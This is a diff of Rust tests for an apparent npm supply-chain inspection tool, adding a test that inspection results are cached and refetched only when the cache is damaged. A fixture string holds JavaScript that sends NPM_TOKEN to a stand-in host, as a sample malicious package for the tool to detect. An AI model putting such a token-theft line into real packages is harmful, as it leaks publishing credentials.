@@ -289,7 +289,7 @@ fn a_dry_run_tells_what_a_mirror_would_hold() {
 }
 
 /// Two packages whose newer versions differ: one harmless, one that steals a token when it is installed.
-fn registry() -> FakeNpm {
+pub(crate) fn registry() -> FakeNpm {
     let theft = "const https = require('https');\nhttps.get('https://collector.invalid/?t=' + process.env.NPM_TOKEN);\n";
     Npm::new()
         .package("rope", |package| {
@@ -317,7 +317,7 @@ fn registry() -> FakeNpm {
 }
 
 /// A lockfile with the registry's own checksums and addresses.
-fn locked(npm: &FakeNpm, packages: &[(&str, &str)]) -> String {
+pub(crate) fn locked(npm: &FakeNpm, packages: &[(&str, &str)]) -> String {
     let mut text: Value = serde_json::from_str(&lockfile(packages)).unwrap();
     for (name, version) in packages {
         let entry = &mut text["packages"][format!("node_modules/{name}")];
@@ -397,6 +397,38 @@ fn what_a_change_brings_in_is_inspected() {
     npm.offline();
     let said = check_online(&home, &npm, &base);
     assert_eq!(said.code, Some(4), "nobody could be asked: {}", said.stdout);
+}
+
+#[test]
+fn what_was_inspected_is_not_fetched_or_inspected_again() {
+    let (home, npm) = (home(), registry());
+    let before = locked(&npm, &[("fibre", "2.0.0"), ("rope", "1.0.0")]);
+    let after = locked(&npm, &[("fibre", "2.0.1"), ("rope", "1.0.1")]);
+    home.write("before.json", before);
+    home.write("package-lock.json", after);
+    let base = ["package-lock.json", "--base-file", "before.json"];
+    let tarballs = || {
+        let requests = npm.requests().into_iter();
+        requests
+            .filter(|request| request.path.ends_with(".tgz"))
+            .count()
+    };
+    let first = check_online(&home, &npm, &base);
+    assert_eq!(first.code, Some(1), "{}{}", first.stdout, first.stderr);
+    assert_eq!(tarballs(), 4);
+    let second = check_online(&home, &npm, &base);
+    assert_eq!(
+        second.stdout, first.stdout,
+        "the same words about the same bytes"
+    );
+    assert_eq!(tarballs(), 4, "nothing was fetched again");
+    // An entry that is damaged is none.
+    for entry in std::fs::read_dir(home.path().join("data/cache/inspections")).unwrap() {
+        std::fs::write(entry.unwrap().path(), "damaged").unwrap();
+    }
+    let third = check_online(&home, &npm, &base);
+    assert_eq!(third.stdout, first.stdout);
+    assert_eq!(tarballs(), 8);
 }
 
 #[test]
